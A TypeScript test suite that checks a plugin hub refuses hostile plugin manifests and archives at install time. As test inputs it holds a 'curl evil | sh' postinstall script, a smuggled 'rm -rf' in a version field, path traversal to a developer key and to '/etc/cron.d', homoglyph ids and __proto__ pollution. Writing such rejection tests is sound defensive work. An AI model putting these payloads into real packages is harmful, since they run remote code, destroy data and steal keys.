import { chmodSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pluginId } from '@runtime-hub/plugin-sdk/contract';
import { openTrust, signWithDeveloperKey } from '../../../studio/server/store/keys.ts';
import { temporaryFolder } from '../../support/hub.ts';
import { artifactOf } from '../arena/arena.ts';
import type { AnyAttack, Expected } from '../arena/attack.ts';
import { playAttacks } from '../arena/play.ts';
import { HONEST, installChanged, manifestIn, put, type Files, type Manifest } from './releases.ts';

const text = (value: string) => (files: Files) =>
  void files.set('manifest.json', Buffer.from(value));

const packed = (
  expect: Expected,
  cases: readonly (readonly [name: string, change: (files: Files) => void])[],
): readonly AnyAttack[] =>
  cases.map(([name, change]) => ({
    name: `${name} is refused at install`,
    act: async (arena) => await installChanged(arena, change),
    expect,
  }));

const node = (more: Manifest) =>
  manifestIn((it) => {
    const [first = {}] = it['nodes'] as Manifest[];
    it['nodes'] = [{ ...first, ...more }];
  });
const permission = (more: Manifest) =>
  manifestIn(
    (it) =>
      void (it['permissions'] = [
        { capability: 'net.http', target: 'example.com', reason: 'r', ...more },
      ]),
  );

const manifests = packed('MANIFEST_INVALID', [
  ['a manifest with a field more', manifestIn((it) => void (it['admin'] = true))],
  [
    'a manifest with install scripts',
    manifestIn((it) => void (it['scripts'] = { postinstall: 'curl evil | sh' })),
  ],
  [
    'a manifest whose entry is another file',
    manifestIn((it) => void (it['entry'] = '../../keys/developer.pem')),
  ],
  ['an id that climbs out of its folder', manifestIn((it) => void (it['id'] = 'hostile/../core'))],
  [
    'an id with letters that look like others',
    manifestIn((it) => void (it['id'] = 'hоstile/changed')),
  ],
  ['an id in capitals', manifestIn((it) => void (it['id'] = 'Hostile/changed'))],
  ['a version that is a path', manifestIn((it) => void (it['version'] = '../1.0.0'))],
  ['a version with build data', manifestIn((it) => void (it['version'] = '1.0.0+evil'))],
  ['an engine that is no range', manifestIn((it) => void (it['engine'] = 'any; rm -rf'))],
  ['a runtime nobody knows', manifestIn((it) => void (it['runtime'] = 'root'))],
  ['a capability nobody knows', permission({ capability: 'hub.admin' })],
  ['a target that climbs', permission({ capability: 'fs.read', target: '/home/../etc' })],
  ['a target that is a pattern of hosts', permission({ target: '*.com/*' })],
  ['a target with a password', permission({ target: 'user:pass@example.com' })],
  ['a permission without a reason', permission({ reason: '' })],
  ['a rate below zero', permission({ ratePerSecond: -1 })],
  ['a rate without end', permission({ ratePerSecond: 1e308 })],
  ['a node that uses what the manifest does not ask for', node({ uses: ['process.run'] })],
  ['a port that every node has', node({ outputs: { error: {} } })],
  ['a port named like an object’s own', node({ outputs: { ['__proto__x.y']: {} } })],
  ['a schema that is none', node({ outputs: { out: { type: 'everything' } } })],
  [
    'a schema that refers to an address',
    node({ config: { $ref: 'http://127.0.0.1:9/schema.json' } }),
  ],
  ['a deadline without end', node({ timeoutMs: 1e12 })],
  [
    'a thousand node types',
    manifestIn(
      (it) =>
        void (it['nodes'] = Array.from({ length: 1000 }, (_, i) => ({ type: `n${String(i)}` }))),
    ),
  ],
]);

const archives = packed('ARTIFACT_MALFORMED', [
  ['a path that climbs', (files) => void files.set('../../evil.js', Buffer.from(''))],
  ['an absolute path', (files) => void files.set('/etc/cron.d/evil', Buffer.from(''))],
  ['a path with a backslash', (files) => void files.set('..\\evil.js', Buffer.from(''))],
  ['a manifest that says a key twice', text('{"manifestVersion":1,"manifestVersion":1}')],
  ['a manifest with a key __proto__', text('{"__proto__":{"id":"core/flow"}}')],
  [
    'a manifest that is no UTF-8',
    (files) => void files.set('manifest.json', Buffer.from([0x7b, 0xff, 0x7d])),
  ],
]);

playAttacks([
  ...manifests,
  ...archives,
  {
    name: 'a bundle of another publisher is refused',
    act: async (arena) => {
      using other = temporaryFolder('publisher');
      openTrust(other.path);
      const artifact = artifactOf('hostile/other', HONEST);
      const bundle = await signWithDeveloperKey(other.path, artifact);
      return (await arena.hub.plugins.install({ artifact, bundle })).digest;
    },
    expect: 'PUBLISHER_UNTRUSTED',
  },
  {
    name: 'a plugin in a namespace that its publisher may not use is refused',
    act: async (arena) => {
      await put(arena, 'strangers/plugin', HONEST);
      return 'installed';
    },
    expect: 'PUBLISHER_UNTRUSTED',
  },
  {
    name: 'a driver that the trust policy does not name is refused',
    act: async (arena) =>
      await installChanged(
        arena,
        manifestIn((it) => void (it['runtime'] = 'driver')),
      ),
    expect: 'PUBLISHER_DRIVER_REFUSED',
  },
  {
    name: 'a bundle that was made for other bytes is refused',
    act: async (arena) => {
      const bundle = await signWithDeveloperKey(
        arena.hub.folder,
        artifactOf('hostile/other', HONEST),
      );
      const artifact = artifactOf('hostile/other', { ...HONEST, code: '() => ({ out: 2 })' });
      return (await arena.hub.plugins.install({ artifact, bundle })).digest;
    },
    expect: 'ARTIFACT_DIGEST_MISMATCH',
  },
  {
    name: 'a plugin for another hub is refused',
    act: async (arena) =>
      await installChanged(
        arena,
        manifestIn((it) => void (it['engine'] = '^99.0.0')),
      ),
    expect: 'PLUGIN_ENGINE_MISMATCH',
  },
  {
    name: 'a plugin without its plugin.js runs nothing, and its error names no folder of the hub',
    act: async (arena) => {
      const id = await installChanged(arena, (files) => void files.delete('plugin.js'));
      const { code, message } = await arena.run(id);
      await arena.end(id);
      return [code, message.includes(arena.hub.folder)];
    },
    expect: { out: ['HOST_LOAD_FAILED', false] },
  },
  {
    name: 'install scripts beside the plugin never run',
    act: async (arena) => {
      const mark = path.join(arena.knowledge.home, 'mark');
      const scripts = {
        scripts: {
          preinstall: `touch ${mark}`,
          install: `touch ${mark}`,
          postinstall: `touch ${mark}`,
        },
      };
      const id = await installChanged(arena, (files) => {
        files.set('package.json', Buffer.from(JSON.stringify(scripts)));
        files.set('binding.gyp', Buffer.from(`{ "targets": [{ "actions": ["touch ${mark}"] }] }`));
      }).catch((error: { code?: string }) => String(error.code));
      if (id === 'hostile/changed') await arena.end(id);
      return existsSync(mark);
    },
    expect: { out: false },
  },
  {
    name: 'a plugin whose file was changed after it was approved is not offered again',
    act: async (arena) => {
      const id = await arena.install(HONEST);
      const file = path.join(arena.hub.plugins.get(pluginId(id))?.folder ?? '', 'plugin.js');
      chmodSync(file, 0o644);
      writeFileSync(file, `${readFileSync(file, 'utf8')}\n// evil`);
      const refused = await arena.hub.plugins.verify();
      await arena.hub.plugins.remove(pluginId(id));
      return refused.filter((it) => it.id === id).map((it) => it.error.code);
    },
    expect: { out: ['ARTIFACT_FILE_MISMATCH'] },
  },
]);
